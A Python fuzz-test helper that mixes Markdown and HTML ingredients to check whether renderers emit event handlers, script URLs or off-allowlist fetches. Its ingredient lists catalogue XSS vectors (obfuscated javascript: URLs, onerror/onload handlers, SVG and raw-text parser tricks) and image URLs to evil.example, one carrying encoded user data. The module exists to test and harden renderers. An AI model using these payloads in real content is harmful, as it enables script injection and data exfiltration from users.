"""Markdown and HTML soup from the ingredients renderers disagree about, and what a
rendered page must never hold: a fetch off the allowlist, a script URL, an event
handler. Used by tests/test_fuzz.py (bounded) and benchmarks/fuzz_soup.py (long runs).
"""

from __future__ import annotations

import functools
import json
import random
import re
import subprocess
from collections.abc import Iterable, Iterator, Mapping
from pathlib import Path
from typing import Any

from bleach.html5lib_shim import HTMLTokenizer, constants
from hypothesis import strategies as st

from renderers import RENDERERS, Url, is_fetched, urls_in_tokens

EVIL = "https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI"
SUITES = tuple(
    json.loads(line)["text"]
    for line in (Path(__file__).parent / "data" / "renderer_suites.jsonl")
    .read_text(encoding="utf-8")
    .splitlines()
)
_TYPES = {value: name for name, value in constants.tokenTypes.items()}
_BLANKS = re.compile("[\t\n\r]")
_C0_AND_SPACE = "".join(map(chr, range(0x21)))
_PLAIN = re.compile(r"\w")
JS = Path(__file__).parent / "js"
# Prefixes healed and rendered per output by default (a sample, see `prefix_cuts`).
PREFIXES = 48

# Each ingredient is one class of construct the issue names: brackets and `!`,
# backticks, named and numeric references, tags with URL attributes, comments and
# processing instructions, newlines and tabs inside destinations, containers,
# reference definitions before and after their use.
INGREDIENTS: dict[str, tuple[str, ...]] = {
    "brackets": ("[", "]", "![", "](", ")", "![a]", "[r]", "[]", "(", "!"),
    "backticks": ("`", "``", "```", "~~~", "    "),
    "references": ("&amp;", "&#104;", "&#x2F;", "&colon;", "&Tab;", "&lt;", "&gt;", "&NewLine;"),
    "tags": (
        "<img src=", "<a href=", "<div>", "</div>", "<p>", "<details>", '<b title="',
        "<source srcset=", "<svg><image href=", " onerror=alert(1) ", '"', "'", ">",
        "<kbd>", "</kbd>", "<b>", "</b>", "<br>", "<br />", "<", "< ",
    ),
    "comments": ("<!--", "-->", "<?", "?>", "<!X", "<![CDATA[", "]]>"),
    "urls": (EVIL, "https://evil.example/x.png", "//evil.example/y.png", "javascript:alert(1)",
             "ht\ntps://evil.example/n.png", "https:\t//evil.example/t.png", "www.evil.example/w",
             f"<{EVIL}>", "<https://evil.example/x.png>", "<https://docs.python.org/library/>"),
    "containers": (
        "\n", "\n\n", "> ", "- ", "1. ", "| a | b |\n|---|---|\n| ", "# ", "\t", "\n: ",
    ),
    "definitions": ("[r]: ", "\n[r]: https://evil.example/r.png\n", "[r]:\n"),
    "prose": ("word ", "a ", "Sure, here it is: "),
    # What a healing renderer (remend) completes at a prefix: a label the stream may
    # stop inside (`[rb]` ends as `[r`), an interval's lone `[`, a single `~`.
    "healing": ("[rb]", "[0, 1)", "a~b"),
    # Issue 34's families. Raw HTML inside tables, footnotes, list items and fences
    # left open.
    "raw_in_containers": (
        "| <img src=//evil.example/c.png> | b |\n", "| a | b |\n|---|---|\n", "[^1]", "[^1]: ",
        "[^1]: <img src=", "- <img src=", "1. <a href=", "> <img src=", "```\n<img src=",
        "~~~\n", "```\n", "  - ", "|", "\n|---|\n", "    <img src=", "* <svg><image href=",
    ),
    # Comments and declarations (`<!X ...>`), which end where renderers disagree.
    "declarations": (
        "<!X ", "<!DOCTYPE html>", "<!-- a -->", "<!->", "<!-->", "<!---->", "<!x>", "<!",
        "--!>", "<!ELEMENT a ", "<!-- <img src=//evil.example/k.png> -->",
    ),
    # Elements that fetch or navigate without a click, in odd positions.
    "fetching_tags": (
        "<style>", "</style>", "@import url(//evil.example/s.css);",
        "<style>@import 'https://evil.example/i.css'</style>", "<link rel=stylesheet href=",
        "<link rel=preload as=image href=//evil.example/l.png>",
        '<meta http-equiv=refresh content="0;url=',
        "<meta http-equiv=refresh content=0;url=//evil.example/m>",
        "<svg><image href=//evil.example/i.png /></svg>", "<svg><image xlink:href=",
        "<video poster=",
        "<form action=", "<button formaction=", 'style="background:url(',
        '<div style="background-image:url(//evil.example/b.png)">', "<object data=",
        "<base href=//evil.example/>", "<iframe src=", "<input type=image src=", "<embed src=",
    ),
    # Hosts and schemes split by character references and control characters, which a
    # browser decodes or strips.
    "split_hosts": (
        "https://evil&#x0A;.examp&#10;le/e.png", "//evil&#9;.exa&#13;mple/s.png",
        "&#x68;ttps://evil.example/h.png", "ht&#x09;tps://evil.example/t.png",
        "java&#x0A;script:alert(1)", "&#106;avascript&colon;alert(1)", "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>",
        "&#x6a;&#x61;vascript:alert(1)", "evil.example", "https:evil.example/n.png",
        "\\\\evil.example/b.png", "/\\evil.example/c.png", "https://evil%2Eexample/p.png",
        "evil&#x0A;.examp&#10;le", "&#47;&#47;evil.example/d.png", "https&#58;//evil.example/c.png",
    ),
    "www": (
        "www.evil.example", "www.evil.example/w.png", "(www.evil.example)", "*www.evil.example*",
        "<www.evil.example>", "http://www.evil.example", "~~www.evil.example~~",
    ),
    # Image titles holding code spans: the title's quote or backtick pairs elsewhere.
    "image_titles": (
        '"`', '`"', ' "t `x` t"', '![a](https://evil.example/t.png "`")', '![a](x "`c`")',
        " '`'", '![a](<https://evil.example/a b.png> "`t`")', '![a](y.png "`', ' "',
    ),
    # Every construct holding a URL in the renderers' own test suites
    # (benchmarks/harvest_suites.py).
    "suites": SUITES,
    # What a browser's tokenizer and tree builder make of tags Markdown passes on:
    # `/` and line ends between attributes, `<image>` (built as `<img>`), fetching
    # attributes beyond `src`, SVG and MathML links and animations, spaced and
    # entity-spelt script URLs.
    "html_parser": (
        "<img/src=//evil.example/a.png>", "<img\nsrc=//evil.example/b.png>",
        "<IMG SRC=//evil.example/c.png>", "<img src = //evil.example/d.png>",
        "<img src=`//evil.example/e.png`>", "<image src=//evil.example/g.png>",
        '<img srcset="//evil.example/h.png 2x">', "<picture><source srcset=//evil.example/i.png>",
        "<video><source src=//evil.example/v.mp4></video>", "<audio src=//evil.example/au.mp3>",
        "<video><track src=//evil.example/t.vtt>", "<body background=//evil.example/bg.png>",
        "<table background=//evil.example/tb.png>", "<td background=",
        '<iframe srcdoc="&lt;img src=//evil.example/s.png&gt;">', "<link rel=icon href=",
        "<meta http-equiv=\"refresh\" content=\"0; URL='//evil.example/m'\">",
        "<svg><use href=//evil.example/u.svg#a /></svg>", "<svg><feImage href=",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>",
        "<svg><set attributeName=href to=javascript:alert(1) />", "<svg/onload=alert(1)>",
        "<img src=x onerror=alert(1)//", "<details open ontoggle=alert(1)>",
        '<a href="&#x20;javascript:alert(1)">', '<a href="javascript&#58;alert(1)">',
        '<a href="jav&#x09;ascript:alert(1)">', "<button formaction=javascript:alert(1)>",
        "<a href=javascript:alert(1)>", "<a href='", "<a\nhref=", "<a/href=", "</a>",
        '<a href="data:text/html,<script>alert(1)</script>">', "<input src=",
    ),
    # Raw-text and escapable elements, and the parser's foreign content: where one
    # reader sees text and another a tag.
    "raw_text": (
        '<noscript><p title="</noscript><img src=//evil.example/n.png>">', "<textarea>",
        "</textarea>", "<title>", "</title>", "<xmp>", "</xmp>", "<plaintext>", "<noembed>",
        "<noframes>", "<template>", "</template>", "<math><mtext><table><mglyph><style>",
        '<svg></p><style><a id="</style><img src=//evil.example/sv.png>">', "<svg>", "</svg>",
        "<![CDATA[><img src=//evil.example/cd.png>]]>", "</br>", "<!--!>", "<? >", "<script>",
        "</script>", "<select><img src=//evil.example/se.png>", "<listing>", "<pre>\n",
    ),
    # Characters some readers drop, fold or treat as space: zero-width, byte-order and
    # bidi marks, no-break and ideographic spaces, line and paragraph separators,
    # full-width letters and stops a URL parser maps to ASCII.
    "unicode": (
        "\u200b", "\u200d", "\ufeff", "\u00a0", "\u202e", "\u3000", "\u2028", "\u0085",
        "\uff1c", "https://\uff45\uff56\uff49\uff4c\uff0e\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45/f.png",
        "//evil\u3002example/i.png", "java\u200bscript:alert(1)", "\u00ad", "e\u0301",
    ),
    # Reference definitions in every form a renderer reads: angle destinations, a
    # destination on the next line, titles over lines, indented, quoted or listed,
    # labels that only Unicode case folding matches, escaped brackets, entities.
    "definitions_more": (
        "[R]: <//evil.example/d.png>", "[r]:\n//evil.example/nl.png", '"title\nspanning"',
        "   [r]: //evil.example/in.png", "> [r]: //evil.example/q.png", "- [r]: ",
        "[\u1e9e]: //evil.example/ss.png", "![a][SS]", "![a][\u1e9e]", "[r\\]]: ", "![r\\]]",
        "![a][]", "![r]", "[r]: &#x2F;&#x2F;evil.example/ent.png", "![R]", "[r]: <>",
        "![a][r", "[ r ]: ", "![a][ R ]",
    ),
    # Renderers' extensions: attribute lists, Markdown in HTML, wiki links and
    # embeds, footnotes holding images, task lists, math and rendered fences.
    "extensions": (
        "{: src=//evil.example/al.png}", "{: onclick=alert(1)}", '<div markdown="1">',
        "[[wiki]]", "![[embed.png]]", "[^a]: ![x](//evil.example/fn.png)", "- [ ] ",
        "$$\\href{javascript:alert(1)}{x}$$", "\\includegraphics{//evil.example/g.png}",
        "```mermaid\n", "```svg\n", "```html\n", "~~~math\n", "$", "$$", ":smile:",
    ),
    # Characters renderers read apart: python-markdown's placeholder markers (STX,
    # ETX), controls that break a URL where a stream's prefix does not, white space
    # that Python's `\s` holds and JavaScript's does not (or the other way), at a
    # line's start, on a line of its own, before an angle destination; raw-text
    # openers mistune reads past CommonMark's; a quote's markers inside a tag.
    "controls_and_space": (
        "\x02", "\x03", "\x01", "\x0b", "\x0c", "\x1c", "\x1f", "\x7f", "\x85",
        "\n\u00a0", "\n\u3000\n", "\n\x0b", "\n\x0c", "\n> ", "(\x0c<", "(<\u2028",
        "<pre'>", "<script'>\n", "<style/", "<textarea'", "</pre>", "```\u00a0",
        "[]:h\n", "\n: ", "//evil.example\x01/c.png", "<img src=\n", "<a\n\u00a0href=",
    ),
    # Markdown inside a raw tag's attribute: python-markdown reads links and images
    # before raw HTML, and writes their markup, quotes and all, into the value.
    "markdown_in_attributes": (
        '<img alt="', '<b title="', "<span title='", "<a href=", '" src="/a.png">', '">',
        "![x onerror=alert(1) ](/y.png)", "[t](onclick=alert(1)//)", "![on]()",
        "[x]: onclick=alert(1)//\n\n", "[x]", '[t](/u "a onclick=alert(1)")',
    ),
    # Code spans python-markdown pairs across a paragraph's lines, from where its
    # paragraph starts, after the lines it takes out (seed 441).
    "backticks_over_lines": (
        '    "```\n', "[]:```\n", "# h ```\n", "~```\n", "``` ", "``<a href=javascript:>``",
        "``<img src=//evil.example/b.png>``", "\n`", "`\n", "- ```\n", "> ```\n",
    ),
}  # fmt: skip
ATOMS = tuple(atom for atoms in INGREDIENTS.values() for atom in atoms)
FAMILIES = tuple(INGREDIENTS)


def pick(rng: random.Random, families: tuple[str, ...] = FAMILIES) -> str:
    """One ingredient: a family first, so the suites' hundreds of constructs weigh as one."""
    return rng.choice(INGREDIENTS[rng.choice(families)])


_ingredient = st.sampled_from(FAMILIES).flatmap(lambda f: st.sampled_from(INGREDIENTS[f]))
soup = st.lists(_ingredient, max_size=40).map("".join)


def event_handlers(html: str) -> Iterator[str]:
    """`on*` attributes in `html`, as a browser tokenises it."""
    return handlers_in_tokens(HTMLTokenizer(html))


def handlers_in_tokens(tokens: Iterable[dict[str, Any]]) -> Iterator[str]:
    """`on*` attributes in a page's tokens (html5lib's `HTMLTokenizer`)."""
    for token in tokens:
        if _TYPES.get(token["type"]) not in ("StartTag", "EmptyTag"):
            continue
        data = token.get("data") or {}
        for name, value in data.items() if isinstance(data, dict) else data:
            if str(name).lower().startswith("on"):
                yield f"<{token['name']} {name}>"
            elif str(name).lower() == "srcdoc":  # the frame's document runs its own
                yield from handlers_in_tokens(HTMLTokenizer(str(value)))


def page_problems(
    html: str, renderer: str, image_hosts: Iterable[str] = (), whole: str | None = None
) -> list[str]:
    """What one rendered page must not hold. `whole`: the page renders a prefix of
    this text; where some image host is allowed, a URL cut short of one `whole`
    holds is not counted (README, "Limits": a client that renders inside a unit,
    never where a stream sends, can see an allowed image's definition cut inside its
    host)."""
    hosts = tuple(image_hosts)
    handlers, found_urls = page_facts(html)
    found = [f"{renderer}: event handler {h}" for h in handlers]
    for tag, attribute, value in found_urls:
        url = Url(renderer, tag, attribute, value)
        if not (hosts and whole is not None and cut_short(url.value, whole)):
            found.extend(_url_problems(url, hosts))
    return found


@functools.lru_cache(maxsize=16384)
def page_facts(html: str) -> tuple[tuple[str, ...], tuple[tuple[str, str, str], ...]]:
    """The event handlers and the URLs (tag, attribute, value) of `html`, tokenised once
    and remembered: the renderers and the prefixes of one output make many equal pages."""
    tokens = list(HTMLTokenizer(html))
    found = ((u.tag, u.attribute, u.value) for u in urls_in_tokens(tokens, ""))
    return tuple(handlers_in_tokens(tokens)), tuple(found)


def cut_short(url: str, text: str) -> bool:
    """Is `url` a proper prefix of a URL `text` holds whole?"""
    at = text.find(url)
    while at >= 0:
        after = text[at + len(url) : at + len(url) + 1]
        if after and not after.isspace() and after not in ")>\"'":
            return True
        at = text.find(url, at + 1)
    return False


def script_scheme(value: str) -> bool:
    """Does a browser run `value` (an attribute's value, entities decoded) as a script
    URL? It strips leading and trailing C0 controls and spaces, removes tabs and
    newlines anywhere and ignores case."""
    value = _BLANKS.sub("", value.strip(_C0_AND_SPACE))
    return value.lower().startswith(("javascript:", "vbscript:"))


def _url_problems(url: Url, hosts: tuple[str, ...]) -> Iterator[str]:
    value = _BLANKS.sub("", url.value.strip()).lower()
    if script_scheme(url.value):
        yield f"{url.renderer}: script URL <{url.tag} {url.attribute}>"
    if is_fetched(url) and value.startswith("data:") and not value.startswith("data:image/"):
        yield f"{url.renderer}: data URL fetched <{url.tag} {url.attribute}>"
    host = url.host
    if (
        is_fetched(url)
        and host is not None
        and not any(host == h or host.endswith("." + h) for h in hosts)
    ):
        yield f"{url.renderer}: fetches {host} <{url.tag} {url.attribute}>"


def prefix_cuts(text: str, count: int = PREFIXES) -> list[int]:
    """A bounded sample of the proper prefixes of `text` a healing client could render
    (drawn from the text alone, so runs that differ only in some outputs compare):
    cuts next to punctuation, where healing differs, then a few anywhere."""
    rng = random.Random(text)
    cuts = range(1, len(text))
    near = [c for c in cuts if not (_PLAIN.match(text[c - 1]) and _PLAIN.match(text[c]))]
    picked = rng.sample(near, min(len(near), count * 3 // 4))
    rest = sorted(set(cuts) - set(picked))
    return sorted(picked + rng.sample(rest, min(len(rest), count - len(picked))))


def node(inputs: list[object], *flags: str) -> list[dict[str, object]]:
    """tests/js/render.mjs over `inputs`, in one Node.js process."""
    done = subprocess.run(
        ["node", str(JS / "render.mjs"), *flags],
        input=json.dumps(inputs), capture_output=True, text=True, check=True, timeout=3600,
    )  # fmt: skip
    pages: list[dict[str, object]] = json.loads(done.stdout)
    return pages


def js_problems(
    outputs: list[str], image_hosts: Iterable[str] = (), *, prefixes: int | None = PREFIXES
) -> list[list[str]]:
    """The JavaScript renderers' problems with each output, and the healing renderers'
    at a sample of `prefixes` of its prefixes (None: every prefix)."""
    hosts = tuple(image_hosts)
    whole = node(list(outputs))
    cut = [
        {"text": o, "cuts": None if prefixes is None else prefix_cuts(o, prefixes)} for o in outputs
    ]
    healed = node(list(cut), "--prefixes")
    found = []
    for output, page, healed_pages in zip(outputs, whole, healed, strict=True):
        pages = {name: str(html) for name, html in page.items()}
        by_name = {}
        for name, htmls in healed_pages.items():
            assert isinstance(htmls, list)
            by_name[name] = [str(h) for h in htmls]
        found.append(js_page_problems(output, pages, by_name, hosts))
    return found


def js_page_problems(
    output: str,
    pages: Mapping[str, str],
    healed: Mapping[str, list[str]],
    image_hosts: Iterable[str] = (),
) -> list[str]:
    """The problems of one output's JavaScript `pages` (by renderer) and of the pages
    each healing renderer made of its prefixes (`healed`, by renderer)."""
    hosts = tuple(image_hosts)
    found = [p for name, html in pages.items() for p in page_problems(html, name, hosts)]
    for name, htmls in healed.items():
        named = f"{name} (prefix)"
        found += [p for h in htmls for p in page_problems(h, named, hosts, output)]
    return found


def problems(text: str, image_hosts: Iterable[str] = ()) -> list[str]:
    """What any Python renderer would do wrong with `text` (a renderer that crashes on
    it shows nothing, so it has nothing to report)."""
    hosts = tuple(image_hosts)
    found = []
    for name, render in RENDERERS.items():
        try:
            html = render(text)
        except Exception:
            continue
        found.extend(page_problems(html, name, hosts))
    return found
